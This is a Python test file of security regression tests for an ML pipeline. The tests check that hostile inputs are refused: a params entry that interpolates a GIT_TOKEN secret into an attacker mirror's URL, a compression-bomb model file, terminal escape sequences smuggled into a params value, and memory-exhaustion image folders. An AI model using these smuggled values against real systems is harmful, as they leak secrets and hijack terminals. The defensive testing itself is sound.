"""What a hostile params file, store, model file or pulled experiment cannot turn against the
user (issue-style items of the security read): an interpolation never resolves a secret, a
compressed model file never inflates, a pulled experiment's text never drives the terminal,
no `dvc exp run` deletes images where data.path points, the cloud task names no bucket of
its own, and a folder of tiny pictures at a large side stays within its memory."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
import torch
import yaml
from PIL import Image

from support import (BIN, ROOT, Mirror, committed_run, deflated, dvc, git, load_in_fresh_process, make_repo, run_stage,
                      set_params, stage_env, write_dataset)
from vaepipe.errors import UserError
from vaepipe.params import load_params

TOKEN = "ghp_SECRET_TOKEN_123"


def hostile_repo(tmp_path: Path, good_url: str, evil: Mirror) -> Path:
    """A project whose committed params list a stranger's mirror with ${oc.env:GIT_TOKEN} in
    it before the good one (the silent variant: the run would succeed)."""
    repo = make_repo(tmp_path / "repo", good_url)
    params = yaml.safe_load((repo / "params.yaml").read_text())
    params["data"]["mirror"] = [evil.url + "mnist/${oc.env:GIT_TOKEN}/", good_url]
    (repo / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))
    git(repo, "commit", "-qam", "a pull request's params")
    return repo


@pytest.mark.e2e
@pytest.mark.parametrize("command", [["exp", "run", "-S", "beta=2", "download"], ["repro", "download"]])
def test_an_interpolation_in_committed_params_never_sends_a_secret(tmp_path, command):
    data = write_dataset(tmp_path / "data", train=100, test=50)
    good, evil = Mirror(data), Mirror(tmp_path)
    try:
        repo = hostile_repo(tmp_path, good.url, evil)
        env_token = dict(os.environ, GIT_TOKEN=TOKEN)
        result = subprocess.run([str(BIN / "dvc"), *command], cwd=repo, capture_output=True, text=True,
                                env=env_token | {"PATH": f"{BIN}:{os.environ['PATH']}"}, timeout=600)
    finally:
        good.close()
        evil.close()
    assert result.returncode != 0
    assert evil.requests == [] and good.requests == []
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "data.mirror" in errors[0] and "interpolation" in errors[0], result.stderr
    assert "(HEAD)" in errors[0] or command[0] == "repro"
    assert TOKEN not in result.stdout + result.stderr
    assert not (repo / "data" / "raw").exists()


def test_params_refuse_any_interpolation(workdir):
    set_params(workdir, data__path="images/${oc.env:HOME}")
    with pytest.raises(UserError, match=r"data.path.*interpolation"):
        load_params(workdir / "params.yaml")


def test_assign_sets_params_as_written_and_refuses_interpolation(workdir, monkeypatch):
    from vaepipe.assign import main

    monkeypatch.chdir(workdir)
    before = (workdir / "params.yaml").read_text()
    assert main(["data.mirror=http://127.0.0.1:1/${oc.env:GIT_TOKEN}/"]) == 2
    assert (workdir / "params.yaml").read_text() == before, "nothing written"
    assert main(["beta=2", "project.epochs=[0,5]"]) == 0
    after = (workdir / "params.yaml").read_text()
    assert load_params(workdir / "params.yaml").beta == 2.0
    assert load_params(workdir / "params.yaml").project.epochs == [0, 5]
    assert after.count("#") == before.count("#"), "comments kept"
    assert main(["d=0"]) == 2 and (workdir / "params.yaml").read_text() == after
    assert main(["arch=conv", "arch_options.norm=none"]) == 0  # an architecture's option: a key of its own
    assert load_params(workdir / "params.yaml").arch_options == {"norm": "none"}
    assert main(["bta=2"]) == 2 and main(["train.lrr=2"]) == 2  # any other unknown key is refused


def test_assign_with_an_interpolation_is_one_line_and_exit_2(workdir):
    result = subprocess.run([sys.executable, "-m", "vaepipe.assign", "data.mirror=x/${oc.env:HOME}/"], cwd=workdir,
                            env=stage_env(), capture_output=True, text=True)
    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "interpolation" in result.stderr


def test_data_channels_2_is_one_line(workdir):
    set_params(workdir, data__channels=2)
    result = run_stage("normalize", workdir)
    assert result.returncode == 2 and result.stderr == "error: data.channels: must be one of 1, 3, got 2\n"


def test_a_compressed_model_file_is_refused_before_it_inflates(tmp_path):
    """195 KB of DEFLATE made `api.load` allocate 192 MB before refusing it."""
    buffer = io.BytesIO()
    torch.save({"state_dict": {"encoder.0.weight": torch.zeros(50_000_000)}, "hparams": {}}, buffer)
    bomb = tmp_path / "model.pt"
    bomb.write_bytes(deflated(buffer.getvalue()))
    assert bomb.stat().st_size < 1_000_000
    refused, grown_mb, stderr = load_in_fresh_process(bomb)
    assert refused.startswith("refused:") and "compressed" in refused, stderr
    assert grown_mb < 50, f"loading grew the process by {grown_mb} MB"


@pytest.mark.e2e
def test_the_table_prints_no_escape_sequence_from_an_experiment(tmp_path):
    repo = make_repo(tmp_path / "repo", "http://127.0.0.1:1/")
    set_params(repo, data__path="\x1b]2;owned\x07\x1b[1A\x1b[2Kimages")
    git(repo, "commit", "-qam", "a pulled experiment's params")
    result = subprocess.run([sys.executable, "-m", "vaepipe.runs.table", "--", "--all-commits"], cwd=repo,
                            env=stage_env(), capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b]2;owned\\x07" in result.stdout
    csv = subprocess.run([sys.executable, "-m", "vaepipe.runs.table", "--csv", "--", "--all-commits"], cwd=repo,
                         env=stage_env(), capture_output=True, text=True, timeout=300)
    assert "\x1b" not in csv.stdout and "\\x1b" in csv.stdout


def test_the_table_names_the_workspace_in_full():
    from vaepipe.runs.table import runs

    show = [{"rev": "workspace", "data": {"params": {"params.yaml": {"data": {"beta": 2}}}}},
            {"rev": "a" * 40, "data": {"params": {"params.yaml": {"data": {"beta": 1}}}}}]
    assert sorted(runs(show).index) == ["aaaaaaa", "workspace"]


def test_the_cloud_task_names_no_bucket_of_its_own():
    """A bucket's name is global: a default one belongs to whoever created it first."""
    task = yaml.safe_load((ROOT / "cloud" / "experiment.yaml").read_text())
    assert task["envs"]["CHECKPOINT_BUCKET"] is None
    sky = ROOT / ".venv-sky" / "bin" / "python"
    if not sky.exists():
        pytest.skip("SkyPilot is not installed: `make sky` (.ci/run does)")
    check = f"import sky\nsky.Task.from_yaml({str(ROOT / 'cloud' / 'experiment.yaml')!r})\n"
    result = subprocess.run([str(sky), "-c", check], capture_output=True, text=True, timeout=120)
    assert result.returncode != 0 and "CHECKPOINT_BUCKET" in result.stderr, result.stderr[-2000:]


def test_a_folder_of_tiny_pictures_at_a_large_side_stays_small(tmp_path, workdir):
    """1100 1×1 PNGs at side 256 in colour: 196 KB a row once converted; the spill was read
    back 1024 rows at a time (400 MB at once), now 16 MB at a time."""
    images = workdir / "images"
    for label in ("a", "b"):
        (images / label).mkdir(parents=True)
        for i in range(550):
            Image.new("RGB", (1, 1), (i % 256, 0, 0)).save(images / label / f"{i}.png")
    set_params(workdir, data__dataset="folder", data__path="images", data__side=256, data__channels=3)
    script = ("import resource, subprocess, sys\n"
              "done = subprocess.run([sys.executable, sys.argv[1]], capture_output=True, text=True)\n"
              "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n"
              "sys.stderr.write(done.stderr)\n")
    result = subprocess.run([sys.executable, "-c", script, str(ROOT / "stages" / "normalize.py")], cwd=workdir,
                            env=stage_env(), capture_output=True, text=True, timeout=600)
    code, peak_mb = map(int, result.stdout.split())
    assert code == 0, result.stderr
    assert peak_mb < 300, f"normalize peaked at {peak_mb} MB"


@pytest.fixture(scope="module")
def ran_repo(tmp_path_factory):
    """A project whose whole pipeline has run and been committed, so `dvc exp run` has every
    output to check out."""
    return committed_run(tmp_path_factory.mktemp("ran") / "repo")


@pytest.mark.e2e
@pytest.mark.parametrize("folder", ["data/raw", "data/normalized", "models/snapshots", "models/onnx", "explorer",
                                    "models", "metrics", "plots", "data"])
def test_dvc_exp_run_never_deletes_images_where_data_path_points(ran_repo, folder):
    """`dvc exp run` checks out every output before any stage runs: with images in a stage's
    folder it deleted them (27 PNGs in data/raw, then 0); .dvcignore hides them from DVC."""
    pictures = [ran_repo / folder / label / f"{i}.png" for label in ("a", "b") for i in range(3)]
    for path in pictures:
        path.parent.mkdir(parents=True, exist_ok=True)
        Image.new("L", (8, 8), 200).save(path)
    before = {path: path.read_bytes() for path in pictures}
    try:
        result = dvc(ran_repo, "exp", "run", "-S", "data.dataset=folder", "-S", f"data.path={folder}",
                     "-S", "data.mirror=null", check=False, timeout=600)
        assert result.returncode != 0, result.stdout
        assert {path: path.read_bytes() for path in pictures if path.exists()} == before
    finally:
        git(ran_repo, "checkout", "--", "params.yaml")
        for label in ("a", "b"):
            subprocess.run(["rm", "-rf", str(ran_repo / folder / label)], check=True)


@pytest.mark.e2e
def test_no_file_a_stage_writes_is_hidden_by_dvcignore(ran_repo):
    written = [str(path.relative_to(ran_repo)) for folder in ("data", "models", "explorer")
               for path in (ran_repo / folder).rglob("*") if path.is_file()]
    for folder in ("data/raw/", "data/normalized/", "models/snapshots/", "models/onnx/", "explorer/"):
        assert any(name.startswith(folder) for name in written), folder  # every folder output checked
    hidden = subprocess.run([str(BIN / "dvc"), "check-ignore", *written], cwd=ran_repo, capture_output=True, text=True)
    assert hidden.returncode == 1 and hidden.stdout == "", hidden.stdout
